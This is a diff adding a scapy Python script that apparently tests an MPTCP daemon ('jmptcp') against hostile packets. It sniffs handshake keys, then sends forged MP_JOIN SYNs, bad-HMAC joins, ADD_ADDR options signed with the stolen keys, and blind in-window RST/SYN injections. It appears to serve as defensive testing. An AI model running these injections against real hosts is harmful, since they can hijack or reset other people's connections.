@@ -1,0 +1,288 @@
+#!/usr/bin/python3
+"""Hostile packets against a jmptcp daemon (issue 13), crafted with scapy, sent from the attacker's
+namespace and answered as sniffed there. Each case prints one JSON line of what it sent and saw.
+
+    attack.py CASE --iface IF --gw GW_IP --src SRC_IP --dst DST_IP --dport PORT [options]
+
+    join-unknown  --count N    MP_JOIN SYNs with random tokens: counts the RSTs (and MP_TCPRSTs)
+    join-bad-hmac              sniffs a new connection's MP_CAPABLE handshake to DST:PORT (prints
+                               "ready" on stderr first), takes the token of the server's key, then
+                               joins from --join-src with a wrong HMAC in the third ACK
+    add-addr      --bad-addr A --good-addr B
+                               sniffs the handshake as above, then on the live subflow injects an
+                               ADD_ADDR for A with a wrong HMAC and one for B with the right HMAC
+                               (both keys were on the wire) and reports the SYNs sent to A and B
+    blind         --count N    RFC 5961 on the live subflow (in-window seq/ack sniffed from it):
+                               RSTs in the window but not at rcv.nxt, SYNs in the window, RSTs and
+                               data outside it; counts the daemon's pure ACKs (challenge ACKs)
+
+Debian's python3-scapy is in Debian's /usr/bin/python3 (another python3 may come first on the PATH).
+Attack source ports are 61000-61999 (above Linux's ephemeral range); the caller drops the kernel's
+own RSTs from those ports with nftables, since the kernel did not open these connections.
+"""
+import argparse, hashlib, hmac, json, os, random, socket, struct, sys, time
+
+from scapy.all import AsyncSniffer, Ether, IP, TCP, Raw, conf, getmacbyip  # noqa: E402
+
+conf.verb = 0
+MPTCP = 30
+
+
+def mptcp_opts(pkt):
+    """(subtype, bytes of the option) for each MPTCP option of a sniffed TCP segment."""
+    raw = bytes(pkt[TCP])
+    hdr = raw[20:(raw[12] >> 4) * 4]
+    out, i = [], 0
+    while i < len(hdr):
+        k = hdr[i]
+        if k == 0:
+            break
+        if k == 1:
+            i += 1
+            continue
+        if i + 1 >= len(hdr) or hdr[i + 1] < 2:
+            break
+        ln = hdr[i + 1]
+        if k == MPTCP and ln >= 3:
+            out.append((hdr[i + 2] >> 4, hdr[i:i + ln]))
+        i += ln
+    return out
+
+
+def ts_of(pkt):
+    for o in pkt[TCP].options:
+        if o[0] == "Timestamp":
+            return o[1]
+    return None
+
+
+class Wire:
+    def __init__(self, a):
+        self.a = a
+        self.eth = Ether(dst=getmacbyip(a.gw))
+        self.sock = conf.L2socket(iface=a.iface)
+
+    def send(self, pkt):
+        self.sock.send(self.eth / pkt)
+
+
+def sniffer(a, bpf, iface_=None, **kw):
+    """A capture running in the background; seen holds what it caught so far (results only at stop)."""
+    seen = []
+    s = AsyncSniffer(iface=iface_ or [a.iface] + (a.also_iface or []), filter=bpf, store=True, prn=seen.append, **kw)
+    s.seen = seen
+    s.start()
+    deadline = time.time() + 5
+    while not getattr(s, "running", False) and time.time() < deadline:
+        time.sleep(0.01)
+    time.sleep(0.2)  # the capture socket is open once running is set; let the BPF attach
+    return s
+
+
+def token_of(key):
+    return hashlib.sha256(struct.pack(">Q", key)).digest()[:4]
+
+
+def handshake(a):
+    """Sniffs the next MP_CAPABLE handshake to dst:dport: (client port, server key, client key)."""
+    found = {}
+
+    def look(p):
+        if TCP not in p:
+            return False
+        for st, o in mptcp_opts(p):
+            if st != 0:
+                continue
+            if p[IP].src == a.dst and p[TCP].flags & 0x12 == 0x12 and len(o) >= 12:
+                found["server_key"] = struct.unpack(">Q", o[4:12])[0]
+                found["cport"] = p[TCP].dport
+            elif p[IP].dst == a.dst and not p[TCP].flags & 0x02 and len(o) >= 20 and "server_key" in found:
+                found["client_key"] = struct.unpack(">Q", o[4:12])[0]
+                return True
+        return False
+
+    s = sniffer(a, f"tcp and host {a.dst} and port {a.dport}", stop_filter=look, iface_=a.hs_iface or a.iface)
+    print("ready", file=sys.stderr, flush=True)
+    s.join(timeout=a.timeout)
+    if s.running:
+        s.stop()
+    if "client_key" not in found:
+        sys.exit("no MP_CAPABLE handshake seen")
+    return found["cport"], found["server_key"], found["client_key"]
+
+
+def latest(a, secs=1.0):
+    """The client's latest segment to the daemon on any live subflow (its seq is the daemon's rcv.nxt)."""
+    s = sniffer(a, f"tcp and dst host {a.dst} and dst port {a.dport} and src portrange 1024-60999")
+    time.sleep(secs)  # a capture window on the running transfer, not a wait for a condition
+    up = [p for p in s.stop() if TCP in p]
+    if not up:
+        sys.exit("no live subflow")
+    return up[-1]
+
+
+def opts_with(ts, *extra):
+    o = [("NOP", None), ("NOP", None), ("Timestamp", ts)] if ts else []
+    return o + list(extra)
+
+
+def rst_info(pkts):
+    res = {"rst": 0, "mp_tcprst": 0, "reasons": [], "synack": 0}
+    for p in pkts:
+        f = p[TCP].flags
+        if f & 0x04:
+            res["rst"] += 1
+            for st, o in mptcp_opts(p):
+                if st == 8:
+                    res["mp_tcprst"] += 1
+                    res["reasons"].append(o[3])
+        elif f & 0x12 == 0x12:
+            res["synack"] += 1
+    res["reasons"] = sorted(set(res["reasons"]))
+    return res
+
+
+def join_syn(a, w, src, sport, token, nonce, addr_id=5):
+    mpj = bytes([MPTCP, 12, 0x10, addr_id]) + token + struct.pack(">I", nonce)
+    return IP(src=src, dst=a.dst) / TCP(sport=sport, dport=a.dport, flags="S", seq=random.getrandbits(32),
+                                        window=64240, options=[("MSS", 1460), ("SAckOK", b""),
+                                                               ("Timestamp", (1000, 0)), ("WScale", 7),
+                                                               (MPTCP, mpj[2:])])
+
+
+def case_join_unknown(a):
+    w = Wire(a)
+    s = sniffer(a, f"tcp and src host {a.dst} and src port {a.dport} and dst portrange 61000-61999")
+    for i in range(a.count):
+        w.send(join_syn(a, w, a.src, 61000 + i % 1000, os.urandom(4), random.getrandbits(32)))
+    time.sleep(1.0)  # answers in flight
+    res = rst_info(s.stop())
+    res["sent"] = a.count
+    return res
+
+
+def case_join_bad_hmac(a):
+    _, server_key, _ = handshake(a)
+    token = token_of(server_key)
+    w = Wire(a)
+    sport = 61000 + random.randrange(1000)
+    bpf = f"tcp and src host {a.dst} and src port {a.dport} and dst port {sport}"
+    s = sniffer(a, bpf)
+    syn = join_syn(a, w, a.join_src, sport, token, random.getrandbits(32))
+    w.send(syn)
+    deadline = time.time() + 5
+    synack = None
+    while time.time() < deadline and synack is None:
+        time.sleep(0.05)
+        synack = next((p for p in list(s.seen) if TCP in p and p[TCP].flags & 0x12 == 0x12), None)
+    res = {"token": token.hex(), "synack": synack is not None, "synack_mp_join": False}
+    if synack is not None:
+        res["synack_mp_join"] = any(st == 1 and len(o) == 16 for st, o in mptcp_opts(synack))
+        tsv = ts_of(synack)
+        ack_opt = bytes([MPTCP, 24, 0x10, 0]) + os.urandom(20)  # a wrong HMAC
+        w.send(IP(src=a.join_src, dst=a.dst) / TCP(sport=sport, dport=a.dport, flags="A", seq=syn[TCP].seq + 1,
+                                                   ack=synack[TCP].seq + 1, window=502,
+                                                   options=opts_with((1001, tsv[0]) if tsv else None,
+                                                                     (MPTCP, ack_opt[2:]))))
+        deadline = time.time() + 5
+        while time.time() < deadline and not any(p[TCP].flags & 0x04 for p in list(s.seen) if TCP in p):
+            time.sleep(0.05)
+    pkts = s.stop()
+    res.update(rst_info([p for p in pkts if TCP in p and not p[TCP].flags & 0x02]))
+    return res
+
+
+def add_addr_opt(addr_id, addr, hmac64):
+    return bytes([MPTCP, 16, 0x30, addr_id]) + socket.inet_aton(addr) + hmac64
+
+
+def case_add_addr(a):
+    cport, server_key, client_key = handshake(a)
+    time.sleep(a.settle)  # let the transfer run (a capture window follows)
+    up = latest(a)
+    print(f"live subflow {up[IP].src}:{up[TCP].sport} seq {up[TCP].seq} ack {up[TCP].ack}", file=sys.stderr, flush=True)
+    w = Wire(a)
+    s = sniffer(a, f"tcp[tcpflags] & tcp-syn != 0 and (dst host {a.bad_addr} or dst host {a.good_addr})")
+    ts = ts_of(up)
+    key = struct.pack(">QQ", client_key, server_key)  # sender's key || receiver's key
+
+    def inject(addr_id, addr, right):
+        msg = bytes([addr_id]) + socket.inet_aton(addr) + b"\0\0"
+        h = hmac.new(key, msg, hashlib.sha256).digest()[-8:]
+        if not right:
+            h = bytes(b ^ 0x5A for b in h)
+        w.send(IP(src=up[IP].src, dst=a.dst) / TCP(sport=up[TCP].sport, dport=a.dport, flags="A",
+                                                   seq=up[TCP].seq, ack=up[TCP].ack, window=up[TCP].window,
+                                                   options=opts_with(ts, (MPTCP, add_addr_opt(addr_id, addr, h)[2:]))))
+
+    inject(7, a.bad_addr, False)
+    inject(8, a.good_addr, True)
+    deadline = time.time() + a.timeout
+    while time.time() < deadline and not any(p[IP].dst == a.good_addr for p in list(s.seen)):
+        time.sleep(0.05)
+    pkts = s.stop()
+    return {"client_port": up[TCP].sport, "syn_to_bad": sum(p[IP].dst == a.bad_addr for p in pkts),
+            "syn_to_good": sum(p[IP].dst == a.good_addr for p in pkts),
+            "join_to_good": any(st == 1 for p in pkts if p[IP].dst == a.good_addr for st, _ in mptcp_opts(p))}
+
+
+def case_blind(a):
+    up = latest(a)
+    cport = up[TCP].sport
+    w = Wire(a)
+    rcv_nxt, snd_ack = up[TCP].seq, up[TCP].ack
+    ts = ts_of(up)
+    # the daemon's pure ACKs to the client on this subflow: it only sends data there, so these
+    # answer the injections (challenge ACKs, or duplicate ACKs for data outside the window)
+    bpf = (f"tcp and src host {a.dst} and src port {a.dport} and dst port {cport} and "
+           f"tcp[tcpflags] & (tcp-syn|tcp-rst|tcp-fin) == 0 and "
+           f"(ip[2:2] - ((ip[0]&0xf)<<2) - ((tcp[12]&0xf0)>>2)) == 0")
+    src = up[IP].src
+
+    def seg(flags, seq, data=b""):
+        p = IP(src=src, dst=a.dst) / TCP(sport=cport, dport=a.dport, flags=flags, seq=seq % (1 << 32),
+                                         ack=snd_ack, window=up[TCP].window, options=opts_with(ts))
+        return p / Raw(data) if data else p
+
+    phases = [
+        ("rst_in_window", lambda i: seg("R", rcv_nxt + 1 + i)),
+        ("syn_in_window", lambda i: seg("S", rcv_nxt + 1 + i)),
+        ("rst_out_of_window", lambda i: seg("R", rcv_nxt + 0x40000000 + i)),
+        ("data_out_of_window", lambda i: seg("PA", rcv_nxt + 0x40000000 + 100 * i, b"x" * 100)),
+    ]
+    res = {"client_port": cport, "rcv_nxt": rcv_nxt}
+    for name, make in phases:
+        s = sniffer(a, bpf)
+        t0 = time.time()
+        for i in range(a.count):
+            w.send(make(i))
+        sent_s = time.time() - t0
+        time.sleep(0.5)  # answers in flight
+        res[name] = {"sent": a.count, "send_seconds": round(sent_s, 3), "pure_acks": len(s.stop())}
+    return res
+
+
+def main():
+    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
+    ap.add_argument("case", choices=["join-unknown", "join-bad-hmac", "add-addr", "blind"])
+    ap.add_argument("--iface", required=True)
+    ap.add_argument("--gw", required=True, help="the next hop (its MAC address is resolved)")
+    ap.add_argument("--src", required=True)
+    ap.add_argument("--dst", required=True)
+    ap.add_argument("--dport", type=int, required=True)
+    ap.add_argument("--count", type=int, default=100)
+    ap.add_argument("--join-src")
+    ap.add_argument("--hs-iface", help="where the MP_CAPABLE handshake is sniffed (default --iface)")
+    ap.add_argument("--also-iface", action="append", help="another interface to sniff on (repeatable)")
+    ap.add_argument("--bad-addr")
+    ap.add_argument("--good-addr")
+    ap.add_argument("--settle", type=float, default=1.0)
+    ap.add_argument("--timeout", type=float, default=20.0)
+    a = ap.parse_args()
+    fn = {"join-unknown": case_join_unknown, "join-bad-hmac": case_join_bad_hmac, "add-addr": case_add_addr,
+          "blind": case_blind}[a.case]
+    print(json.dumps(fn(a)), flush=True)
+
+
+if __name__ == "__main__":
+    main()
